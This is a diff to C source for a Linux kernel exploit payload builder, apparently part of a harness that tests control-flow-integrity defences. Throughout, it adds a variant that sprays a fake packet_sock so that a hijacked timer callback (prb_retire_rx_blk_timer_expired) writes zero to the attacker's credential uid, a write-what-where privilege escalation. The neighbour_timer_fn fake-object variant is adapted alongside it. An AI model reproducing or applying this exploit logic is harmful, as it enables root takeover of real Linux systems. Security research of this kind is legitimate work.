@@ -104,7 +104,7 @@ static int resolve(struct th_plan *plan, const char *const *names, size_t n)
 	return -1;
 }
 
-int th_payload_prepare(struct th_plan *plan, enum th_payload p)
+int th_payload_prepare(struct th_plan *plan, enum th_payload p, int packet_sock)
 {
 	static const char *const direct[] = { "write_cr4_direct" };
 	/* Under cfi-icall ring_force_close is the jump-table entry and its
@@ -113,6 +113,16 @@ int th_payload_prepare(struct th_plan *plan, enum th_payload p)
 
 	memset(plan, 0, sizeof(*plan));
 	plan->payload = p;
+	plan->packet_sock = packet_sock;
+	if (packet_sock) {
+		plan->legit_fn = (uintptr_t)&prb_retire_rx_blk_timer_expired;
+		plan->legit_name = "prb_retire_rx_blk_timer_expired";
+		plan->fake_timer_off = TH_PO_TIMER_OFF;
+	} else {
+		plan->legit_fn = (uintptr_t)&neighbour_timer_fn;
+		plan->legit_name = "neighbour_timer_fn";
+		plan->fake_timer_off = ATK_OFF_TIMER;
+	}
 	memset(&th_intent, 0, sizeof(th_intent));
 	if (p == TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN)
 		return resolve(plan, direct, 1);
@@ -138,11 +148,21 @@ int th_payload_prepare(struct th_plan *plan, enum th_payload p)
 			TH_ATK_HAS_DATA ? ", .data = 0x407f0" : "");
 	}
 #if TH_ATK_HAS_DATA
-	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
+	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT && packet_sock) {
+		/* A socket of the attacker's whose block the callback closes:
+		 * prb_close_block() writes 0 through pkc->prev, aimed at the
+		 * attacker's own uid (af_packet.h). */
+		plan->fake = th_af_spray_fake_socket((uintptr_t)&current_cred +
+						     offsetof(struct atk_cred, uid));
+		if (!plan->fake)
+			return -1;
+		th_emit("TH-NOTE: sprayed a fake packet_sock at 0x%lx (address leaked): one block, the kernel's, with a frame; pkc->prev = &current_cred.uid; sk_data_ready = sock_def_readable",
+			(unsigned long)plan->fake);
+	} else if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
 		struct atk_ring fake;
 
-		/* A ring whose cur_block is the attacker's own cred uid: the
-		 * callback's "block_status = TP_STATUS_KERNEL" becomes
+		/* A neighbour whose cur_block is the attacker's own cred uid:
+		 * its callback's "block_status = 0" becomes
 		 * "current_cred.uid = 0", a write-what-where. */
 		memset(&fake, 0, sizeof(fake));
 		memcpy(fake.name, "fake", 5);
@@ -217,16 +237,16 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 	case TH_PAYLOAD_DATA_FAKE_OBJECT:
 #if TH_ATK_HAS_DATA
 	{
-		/* legacy: .data is the ring; rc3 shim: .data is the ring's timer. */
+		/* legacy: .data is the object; rc3 shim: .data is its timer. */
 #if defined(TH_ATK_TRANSITIONAL)
-		unsigned long data = plan->fake + ATK_OFF_TIMER;
+		unsigned long data = plan->fake + plan->fake_timer_off;
 #else
 		unsigned long data = plan->fake;
 #endif
 		/* A linear write passes .function: it keeps the legitimate one. */
-		plan->img.timer.function = (uintptr_t)&prb_retire_rx_blk_timer_expired;
-		set_data(plan, data, "the fake ring");
-		th_intent.target = "prb_retire_rx_blk_timer_expired";
+		plan->img.timer.function = plan->legit_fn;
+		set_data(plan, data, plan->packet_sock ? "the fake socket" : "the fake ring");
+		th_intent.target = plan->legit_name;
 	}
 #endif
 		break;
